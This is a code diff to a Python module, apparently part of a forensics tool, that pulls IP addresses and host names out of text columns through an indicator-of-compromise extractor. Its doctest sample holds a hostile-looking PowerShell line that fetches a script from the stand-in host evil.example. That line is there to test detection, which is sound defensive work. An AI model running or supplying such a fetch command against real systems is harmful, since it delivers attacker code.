@@ -1,6 +1,6 @@
 """Addresses and names in columns of text - hosts with ports, JSON lists, command lines -, whole columns at a time.
 
-Nothing is guessed: of free text only dotted quads and the hosts of URLs are taken. A version number of four parts
+Free text goes through :mod:`flowsleuth.extract.ioc`. A version number of four parts without a word that says so
 (``4.18.2.5``) cannot be told from an address.
 """
 
@@ -14,9 +14,6 @@ if TYPE_CHECKING:
     import pyarrow as pa
 
 _ADDRESS = r"^(?:\d{1,3}(?:\.\d{1,3}){3}|[0-9a-fA-F:.]*:[0-9a-fA-F:.]*(?:%.*)?)$"
-_QUAD = r"^\d{1,3}(?:\.\d{1,3}){3}$"
-_NOT_IN_QUADS = r"[^0-9A-Za-z_.-]+"
-_HOST_OF_URL = r"^(?:[^/?#\s@]*@)?(?P<host>[A-Za-z0-9._-]+|\[[0-9A-Fa-f:.]+\])"
 
 
 class Hosts(NamedTuple):
@@ -100,7 +97,7 @@ def hosts_in_lists(texts: pa.Array) -> Hosts:
 
 
 def hosts_in_texts(texts: pa.Array) -> Hosts:
-    """Columns of free text, as command lines are: IPv4 addresses, and hosts of URLs.
+    """Columns of free text, as command lines are: addresses and names, those of URLs too; local names among them.
 
     Examples
     --------
@@ -108,14 +105,15 @@ def hosts_in_texts(texts: pa.Array) -> Hosts:
     >>> line = "powershell -c iwr http://evil.example:8080/a.ps1; ping -n 1 192.0.2.7 & fetch https://[2001:db8::1]/x"
     >>> found = hosts_in_texts(pa.array([line, "setup.exe /v1.2.3", None]))
     >>> found.addresses.to_pylist(), found.names.to_pylist()
-    (['2001:db8::1', '192.0.2.7'], ['evil.example'])
+    (['192.0.2.7', '2001:db8::1'], ['evil.example'])
     """
-    import pyarrow as pa
     import pyarrow.compute as pc
 
-    given = texts.drop_null()
-    words = pc.utf8_trim(pc.list_flatten(pc.split_pattern_regex(given, _NOT_IN_QUADS)), characters=".-")
-    quads = words.filter(pc.match_substring_regex(words, _QUAD)).unique()
-    after = pc.list_flatten(pc.list_slice(pc.split_pattern(given, "://"), 1))
-    named = pc.struct_field(pc.extract_regex(after, _HOST_OF_URL), "host")
-    return hosts(pa.concat_arrays([named.drop_null(), quads]).unique())
+    from flowsleuth.extract.ioc.columns import find
+    from flowsleuth.extract.ioc.engine import ScanOptions
+
+    found = find(texts, ["ipv4", "ipv6", "dns"], ScanOptions(local_names=True))
+    is_name = pc.equal(found["type"], "dns")
+    values = found["observable"]
+    addresses, names = values.filter(pc.invert(is_name)), values.filter(is_name)
+    return Hosts(addresses.unique(), names.unique())
